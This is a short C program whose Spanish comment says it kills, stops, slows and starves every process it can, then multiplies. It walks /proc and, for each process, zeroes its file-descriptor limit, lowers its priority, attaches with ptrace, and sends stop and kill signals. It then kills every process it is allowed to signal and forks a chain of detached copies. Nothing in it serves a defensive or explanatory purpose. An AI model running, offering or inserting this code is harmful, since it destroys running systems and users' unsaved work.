/* Mata, para, frena y deja sin descriptores a todo el que puede, y se multiplica. */
#include <dirent.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <unistd.h>

int main(void)
{
    struct rlimit cero = {0, 0};
    DIR *proc = opendir("/proc");
    for (struct dirent *e; proc && (e = readdir(proc));) {
        pid_t pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid())
            continue;
        prlimit(pid, RLIMIT_NOFILE, &cero, NULL);
        setpriority(PRIO_PROCESS, (id_t)pid, 19);
        ptrace(PTRACE_SEIZE, pid, NULL, NULL);
        kill(pid, SIGSTOP);
        kill(pid, SIGKILL);
    }
    kill(-1, SIGKILL);
    for (int i = 0; i < 200 && fork() == 0; i++)
        setsid();
    return 0;
}
